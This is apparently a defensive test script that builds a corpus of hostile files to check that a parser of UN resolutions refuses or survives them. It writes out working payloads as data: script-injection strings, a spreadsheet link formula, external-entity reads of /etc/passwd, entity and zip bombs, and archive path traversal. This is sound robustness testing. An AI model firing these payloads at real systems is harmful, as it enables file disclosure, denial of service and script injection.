"""Documents that mean harm, or that harm has come to: built here, none of them is anybody's text.

python hostile.py FOLDER      reads every file of a folder, each outcome a line of JSON (run in a process of its own)
"""

from __future__ import annotations

import io
import json
import random
import re
import resource
import struct
import sys
import time
import zipfile
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import hostile_pdf

AKN = "http://docs.oasis-open.org/legaldocml/ns/akn/3.0"
SCRIPT = "<script>alert('tracker')</script>"
IMAGE = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://x/"&A1,"go")'
BIDI = "a\u202egnp.exe\u202c\u2066b\u2069\u200b\u200d\ufeffc"
FIELDS = (SCRIPT, IMAGE, FORMULA, BIDI, "javascript:alert(1)", "{{7*7}}", "%s%n", "\x1b[31mred", "&lt;b&gt;", "]]>")
TEXT = (
    "76/10. {}\n\nThe General Assembly,\n\nRecalling {},\n\n1. *Decides* {};\n\n2. *Ends* {}.\n\n"
    "9th plenary meeting\n1 May 2022"
)


def akn(body: str, title: str = "Bridges", head: str = "") -> str:
    """A small statement in AKN."""
    return (
        f'<akomaNtoso xmlns="{AKN}">{head}<statement><preface><p><docNumber>76/10.</docNumber></p>'
        f"<p><docTitle>{title}</docTitle></p></preface><preamble><formula><p>The General Assembly,</p></formula>"
        f"</preamble><mainBody>{body}</mainBody></statement></akomaNtoso>"
    )


def paragraph(text: str) -> str:
    """An operative paragraph in AKN."""
    return f"<paragraph><num>1.</num><content><p>{text}</p></content></paragraph>"


def in_json(**fields: object) -> bytes:
    """A resolution in JSON."""
    one = {"kind": "operative", "number": "1.", "text": "Decides."}
    return json.dumps({"symbol": "A/RES/76/10", "language": "en", "title": "x", "paragraphs": [one], **fields}).encode()


def in_word(document: bytes, **parts: bytes) -> bytes:
    """A .docx with this main part, and others by name, "/" for "__"."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("word/document.xml", document)
        for name, data in parts.items():
            archive.writestr(name.replace("__", "/"), data)
    return target.getvalue()


_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def word(body: str) -> bytes:
    """The main part of a .docx."""
    return f'<w:document xmlns:w="{_W}"><w:body>{body}</w:body></w:document>'.encode()


def escaped(text: str) -> str:
    """Text in XML; what XML can't hold is left out."""
    kept = "".join(letter for letter in text if letter >= " " or letter in "\t\n")
    return kept.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def fields() -> Mapping[str, bytes]:
    """Every text field of every form, each with something that a page, a table or a terminal could take for its own."""
    found: dict[str, bytes] = {}
    for number, harm in enumerate(FIELDS):
        text, noted = escaped(harm), [{"mark": harm, "text": harm}]
        one = {"kind": "operative", "number": harm, "text": harm, "notes": noted}
        forms = {
            "txt": TEXT.format(harm, harm, harm, harm),
            "xml": akn(paragraph(f"{text} ends."), title=text),
            "json": in_json(title=harm, paragraphs=[one]).decode(),
            "html": f"<html><body><p>76/10. {text}<p>The General Assembly,<p>1. Decides {text}.</body></html>",
        }
        for place, (form, content) in enumerate(forms.items()):
            found[f"field-{number}.{form}"] = content.replace("76/10", f"76/{10 * number + place + 10}").encode()
    return found


def small() -> Mapping[str, bytes]:
    """Everything that is small as a file, whatever it wants to become."""
    noise = random.Random(7)  # noqa: S311 - noise, no secret
    whole = akn(paragraph("Ends.") * 20).encode()
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    deep = 200_000
    attributes = " ".join(f"a{number}='1'" for number in range(100_000))
    bomb = word("<w:p>" + "<w:r><w:t>a</w:t></w:r>" * 10 + "</w:p>" + " " * (200 << 20))
    found = {
        "empty.txt": b"",
        "nul.txt": TEXT.format("a\0b", "\0", "\0", "\0").encode(),
        "random.bin": noise.randbytes(50_000),
        "random.docx": b"PK\x03\x04" + noise.randbytes(50_000),
        "random.pdf": b"%PDF-1.7\n" + noise.randbytes(50_000),
        "random.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + noise.randbytes(5_000),
        "cut.xml": whole[: len(whole) // 2],
        "cut-in-a-letter.txt": TEXT.format("é", "é", "é", "é").encode()[:9],
        "bomb.xml": f'<!DOCTYPE a [<!ENTITY e0 "ha">{entities}]><a>&e11;</a>'.encode(),
        "external.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        "external-dtd.xml": b'<!DOCTYPE a SYSTEM "http://127.0.0.1:9/x.dtd"><a/>',
        "utf16-doctype.xml": '<!DOCTYPE a [<!ENTITY x "y">]><a/>'.encode("utf-16"),
        "deep.xml": akn("<p>" * deep).encode(),
        "deep-closed.xml": akn("<section>" * deep + "</section>" * deep).encode(),
        "deep.json": b'{"paragraphs": ' + b"[" * deep,
        "deep-value.json": in_json(paragraphs=[{"kind": "operative", "text": "a"}]).replace(
            b'"x"', b"[" * 900 + b"]" * 900
        ),
        "deep.html": b"<html><body>" + b"<div><blockquote>" * deep + b"The General Assembly,<p>1. Ends.",
        "deep.md": b"> " * deep + b"The General Assembly,\n\n1. Ends.",
        "attributes.xml": f'<akomaNtoso xmlns="{AKN}" {attributes}/>'.encode(),
        "surrogate.json": in_json().replace(b"Decides.", b"\\ud800 alone"),
        "surrogate-title.json": in_json().replace(b'"x"', b'"\\udfff"'),
        "numbers.json": in_json().replace(b'"x"', b"1e999"),
        "mixed.txt": TEXT.format("é", "x", "y", "z").encode() + "“é”".encode("cp1252"),
        "utf32.txt": TEXT.format("a", "b", "c", "d").encode("utf-32"),
        "bombed.docx": in_word(bomb),
        "traversal.docx": in_word(
            word("<w:p><w:r><w:t>1. Ends.</w:t></w:r></w:p>"),
            **{
                "..__..__..__tmp__hostile": b"x",
                "_rels__.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                b'<Relationship Id="1" Type="a/officeDocument" Target="../../../../etc/passwd"/></Relationships>',
            },
        ),
        "doctype.docx": in_word(b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
        "deep.docx": in_word(word("<w:tbl><w:tr><w:tc>" * 50_000)),
        "loop.docx": in_word(
            word("<w:p><w:pPr><w:pStyle w:val='a'/></w:pPr><w:r><w:t>1. Ends.</w:t></w:r></w:p>"),
            word__styles=f"<w:styles xmlns:w='{_W}'><w:style w:styleId='a'><w:basedOn w:val='b'/></w:style>"
            "<w:style w:styleId='b'><w:basedOn w:val='a'/></w:style></w:styles>".encode(),
        ),
        "not-word.zip": b"PK\x05\x06" + b"\0" * 18,
        "many-numbers.txt": ("The General Assembly,\n\n" + "1. a b c\n" * 20_000).encode(),
        "many-brackets.txt": ("The General Assembly,\n\n1. " + "[" * 50_000 + "]" * 50_000 + ".").encode(),
        "many-stars.md": ("The General Assembly,\n\n1. " + "*_~~**" * 30_000 + ".").encode(),
        "many-notes.txt": ("The General Assembly,\n\n1. " + "a¹ " * 20_000 + ".\n\n" + "¹ b\n" * 20_000).encode(),
        "many-entities.html": b"<html><body><p>The General Assembly,<p>1. " + b"&amp;" * 200_000,
        "one-word.txt": b"The General Assembly,\n\n1. " + b"a" * 500_000 + b".",
        "blanks.txt": b"The General Assembly,\n\n1. a" + b" " * 500_000 + b"b.",
        "dates.txt": b"The General Assembly,\n\n1. " + b"1 May 20 " * 50_000 + b".",
        "symbols.txt": b"The General Assembly,\n\n1. " + b"A/RES/7" * 50_000 + b".",
        "combining.txt": ("The General Assembly,\n\n1. a" + "\u0301" * 200_000 + ".").encode(),
    }
    return {**found, **fields(), **figures(), **packed(), **dense(), **hostile_pdf.small()}


_FIGURES = "1" * 5_000  # more than int() reads
_COLOSSAL = "99999999999"  # in roman numerals a hundred million letters


def figures() -> Mapping[str, bytes]:
    """Numbers that are none, and numbers without end, wherever a form counts or cites."""
    text = TEXT.format("Bridges", "resolution 66/152", "once", "twice")
    found = {
        f"figures-{place}.txt": text.replace(old, new).encode()
        for place, (old, new) in enumerate(
            (
                ("1. *", f"{_FIGURES}. *"),
                ("1. *", f"({_FIGURES}) *"),
                ("1. *", f"\u2018{_COLOSSAL}\u2019 *"),
                ("1. *", f"{_FIGURES} bis. *"),
                ("1. *", f"Annex {_COLOSSAL}\n\n1. *"),
                ("66/152", f"{_FIGURES}/{_FIGURES} of {_FIGURES} May {_FIGURES}, A/{_FIGURES}/L.{_FIGURES}"),
                ("66/152", f"1503 ({'L' * 1_000})"),
                ("once", f"once[^{_FIGURES}]"),
                ("9th plenary", f"adopted by a recorded vote of {_FIGURES} to {_FIGURES}\n{_FIGURES}th plenary"),
                ("76/10", f"76/{_FIGURES}"),
                ("2022", _FIGURES),
                ("1 May", "99 May"),
            )
        )
    }
    found["figures-note.md"] = f"{text.replace('once', f'once[^{_FIGURES}]')}\n\n[^{_FIGURES}]: a note".encode()
    counted = f"<ol start='{_FIGURES}'><li>a</ol><table><tr><td colspan='{_FIGURES}'>b</table>"
    found["figures.html"] = f"<html><body><p>76/10. B<p>The General Assembly,<p>{_FIGURES}. C{counted}".encode()
    note = "<authorialNote marker='{}'><p>n</p></authorialNote>"
    for place, body in enumerate(
        (
            paragraph("Ends.").replace("1.", f"{_FIGURES}."),
            paragraph("Ends.").replace("1.", f"\u2018{_COLOSSAL}\u2019"),
            paragraph(f"Ends{note.format(_FIGURES)}."),
            paragraph(f"Ends{note.format('²²')}."),
            f"<table><tr><td colspan='{_FIGURES}' rowspan='{_COLOSSAL}'><p>x</p></td></tr></table>",
        )
    ):
        found[f"figures-{place}.xml"] = akn(body).encode()
    one = {"kind": "operative", "number": "1.", "text": "Decides."}
    values: tuple[dict[str, Any], ...] = (
            {"session": 10**30}, {"session": -1}, {"language": ["en"]}, {"extra": float("inf")}, {"title": "a\0b"},
            {"symbol": f"A/RES/{_FIGURES}/1"}, {"paragraphs": [{**one, "lead": 99}]},
            {"paragraphs": [{**one, "notes": [{"mark": "²", "text": "x", "offset": -1}]}]},
            {"paragraphs": [{**one, "notes": [{"mark": "²", "text": "x"}]}]},
            {"paragraphs": [{**one, "path": ["²"]}]}, {"paragraphs": [{**one, "number": f"\u2018{_COLOSSAL}\u2019"}]},
            {"paragraphs": [{**one, "number": "٩" * 5_000}]},
    )  # fmt: skip
    for place, fields_ in enumerate(values):
        found[f"figures-{place}.json"] = in_json(**fields_)
    found["figures-long.json"] = in_json().replace(b'"title": "x"', f'"session": {_FIGURES}'.encode())
    found["figures-extra.json"] = in_json().replace(b'"title"', b'"more": 1e999, "title"')
    listed = "<w:pPr><w:numPr><w:ilvl w:val='0'/><w:numId w:val='1'/></w:numPr></w:pPr>"
    item = f"<w:p>{listed}<w:r><w:t>Ends.</w:t></w:r></w:p>"
    said = "<w:p><w:r><w:t>76/10. B</w:t></w:r></w:p><w:p><w:r><w:t>The General Assembly,</w:t></w:r></w:p>"
    for place, (start, form) in enumerate(
        ((_FIGURES, "decimal"), (_COLOSSAL, "lowerRoman"), ("2000000000", "lowerLetter"), ("-2000000000", "ordinal"))
    ):
        level = (
            f"<w:lvl w:ilvl='0'><w:start w:val='{start}'/><w:numFmt w:val='{form}'/><w:lvlText w:val='%1.'/></w:lvl>"
        )
        kinds = f"<w:abstractNum w:abstractNumId='1'>{level}</w:abstractNum>"
        uses = "<w:num w:numId='1'><w:abstractNumId w:val='1'/></w:num>"
        numbering = f"<w:numbering xmlns:w='{_W}'>{kinds}{uses}</w:numbering>".encode()
        found[f"figures-{place}.docx"] = in_word(word(said + item), word__numbering=numbering)
    starts = f"<w:sectPr><w:footnotePr><w:numStart w:val='{_FIGURES}'/></w:footnotePr></w:sectPr>"
    found["figures-notes.docx"] = in_word(word(said + item + starts))
    outlined = f"<w:pPr><w:outlineLvl w:val='{_FIGURES}'/></w:pPr>"
    odd = f"<w:p>{outlined}<w:r><w:t>1. Ends.</w:t><w:sym w:char='D800'/></w:r></w:p>"
    found["figures-signs.docx"] = in_word(word(said + odd))
    return found


def packed() -> Mapping[str, bytes]:
    """What points out of a file, or into another, in the forms that can."""
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    laughs = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    styles = f'<!DOCTYPE a [<!ENTITY e0 "ha">{laughs}]><w:styles xmlns:w="{_W}">&e11;</w:styles>'.encode()
    said = "<w:p><w:r><w:t>76/10. B</w:t></w:r></w:p><w:p><w:r><w:t>The General Assembly,</w:t></w:r></w:p>"
    ends = f"<w:p><w:r><w:t>1. Ends.{include}</w:t></w:r></w:p>"
    relation = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="1" Type="a/styles" Target="http://127.0.0.1:9/styles.xml" TargetMode="External"/>'
        b'<Relationship Id="2" Type="a/footnotes" Target="file:///etc/passwd"/></Relationships>'
    )
    return {
        "xinclude.xml": akn(paragraph(f"A{include}")).encode(),
        "laughs.docx": in_word(word(said + ends), word__styles=styles),
        "external.docx": in_word(word(said + ends), **{"word___rels__document.xml.rels": relation}),
        "list-of-files.docx": b"PK\x03\x04" + many_entries(700_000),
    }


def many_entries(number: int) -> bytes:
    """A zip archive that says it holds millions of files: 47 bytes for each."""
    name = b"a"
    entry = b"PK\x01\x02" + struct.pack("<6H3I5H2I", 20, 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0, 0, 0, 0, 0, 0) + name
    local = b"PK\x03\x04" + struct.pack("<5H3I2H", 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0) + name
    entries = entry * number
    end = struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, number, number, len(entries), len(local))
    place = struct.pack("<IQI", 0, len(local) + len(entries), 1)
    last = struct.pack("<4H2IH", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return local + entries + b"PK\x06\x06" + end + b"PK\x06\x07" + place + b"PK\x05\x06" + last


def dense() -> Mapping[str, bytes]:
    """As much as can stand in a megabyte or less: of paragraphs, lines, marks, elements."""
    formula = b"76/10. B\n\nThe General Assembly,\n\n"
    short = b"<w:p><w:r><w:t>a</w:t></w:r></w:p>"
    return {
        "dense-lines.txt": formula + b"1. a\n\n" * 150_000,
        "dense-title.txt": b"word of a title\n" * 60_000,
        "dense-paragraphs.txt": formula + b"1. a\n\n" * 19_000,
        "dense-pieces.html": b"<html><body><p>76/10. B<p>The General Assembly,<p>1. x" + b"<p>a" * 19_000,
        "dense-page.html": b"<html><body><p>76/10. B<p>The General Assembly,<p>1. x" + b"<p>a" * 250_000,
        "dense-pieces.xml": akn("<p>a</p>" * 19_000).encode(),
        "dense-elements.xml": akn("<p/>" * 250_000).encode(),
        "dense-pieces.docx": in_word(word("<w:p><w:r><w:t>The General Assembly,</w:t></w:r></w:p>").replace(
            b"</w:body>", short * 19_000 + b"</w:body>")),
        "dense-page.docx": in_word(word("<w:p/>" * 1_000_000)),
        "dense-objects.json": b'{"paragraphs":[' + b'{"kind":"operative","text":"a"},' * 30_000 + b"1]}",
        "dense-lists.json": in_json(more=[[]] * 300_000),
        "dense-marks.md": formula + b"1. " + b" ".join(b"a[^%d]" % n for n in range(20_000)) + b".\n\n"
        + b"\n".join(b"[^%d]: b" % n for n in range(20_000)),
        "dense-accents.txt": formula + b"1. a" + "\u0301\u0316".encode() * 100_000,
    }  # fmt: skip


def large() -> Iterator[tuple[str, bytes]]:
    """What is large: one line of 100 MB, and as much as is read at all, in one line or in the smallest pieces."""
    yield "line-of-100-mb.txt", b"The General Assembly,\n\n1. " + b"word " * (20 << 20)
    yield "line-of-100-mb.xml", akn(paragraph("word " * (20 << 20))).encode()
    yield "line-of-100-mb.json", in_json(title="x" * (100 << 20))
    yield "line-of-100-mb.html", b"<html><body><p>The General Assembly,<p>1. " + b"word " * (20 << 20)
    most = (8 << 20) - 1_000
    prose = b"word and other words of a text " * (most // 31)
    yield "most.txt", b"The General Assembly,\n\n1. " + prose
    yield "most.html", b"<html><body><p>The General Assembly,<p>1. " + prose
    yield "most.xml", akn(paragraph(prose.decode())).encode()
    yield "most.json", in_json(paragraphs=[{"kind": "operative", "text": prose.decode()}])
    yield "most-paragraphs.html", b"<html><body><p>The General Assembly,<p>1. a" + b"<p>a" * (most // 4)
    yield "most-elements.xml", akn("<b/>" * (most // 4)).encode()
    yield "most-lists.json", in_json(more=[[]] * (most // 4))
    yield "most-lines.txt", b"The General Assembly,\n\n1. a\n" + b"a\n" * 99_000
    yield "most-marks.md", b"The General Assembly,\n\n1. " + b"*a* " * (most // 4)
    yield "most-blanks.txt", b"The General Assembly,\n\n1. a" + b"\n" * most + b"b."
    said = "<w:p><w:r><w:t>The General Assembly,</w:t></w:r></w:p>"
    runs = "<w:r><w:t>a </w:t></w:r>" * ((15 << 20) // 25)
    yield "most-runs.docx", in_word(word(f"{said}<w:p>{runs}</w:p>"))
    yield "most-prose.docx", in_word(word(f"{said}<w:p><w:r><w:t>{prose.decode()}</w:t></w:r></w:p>"))
    yield from hostile_pdf.large().items()


def _most_memory() -> int:
    """Bytes. Linux counts in getrusage what the process that started this one held, so its own file is asked."""
    status = Path("/proc/self/status")
    if status.exists() and (found := re.search(r"VmHWM:\s+(\d+) kB", status.read_text(encoding="ascii"))):
        return int(found[1]) << 10
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss << 10


def _work() -> float:
    """Seconds of work of this process, and of those it started for a PDF."""
    spent = resource.getrusage(resource.RUSAGE_CHILDREN)
    return time.process_time() + spent.ru_utime + spent.ru_stime


def main(folder: Path) -> None:
    """Read every file, and compare it with another.

    Says what came of it, how long it took (seconds of work), and the most memory so far (MB).
    """
    from tracker.errors import TrackerError
    from tracker.pipeline.compare import compare
    from tracker.pipeline.reading import read

    plain = read(TEXT.format("a", "b", "c", "d").encode(), "plain.txt").resolutions[0]
    for file in sorted(folder.iterdir()):
        started = _work()
        try:
            document = read(file.read_bytes(), file.name)
            if len(document.resolutions) == 1 and document.resolutions[0].language == "en":
                for old, new in ((plain, document.resolutions[0]), (document.resolutions[0], plain)):
                    compare(old, new)
            outcome, said = "read", [one.text for one in document.findings]
        except TrackerError as error:
            outcome, said = "refused", [str(error)]
        except BaseException as error:  # noqa: BLE001 - this is what is looked for
            outcome, said = "crashed", [repr(error)[:500]]
        spent = round(_work() - started, 2)
        peak = _most_memory() >> 20
        sys.stdout.write(
            json.dumps({"name": file.name, "outcome": outcome, "said": said, "spent": spent, "peak": peak}) + "\n"
        )
        sys.stdout.flush()


if __name__ == "__main__":
    main(Path(sys.argv[1]))
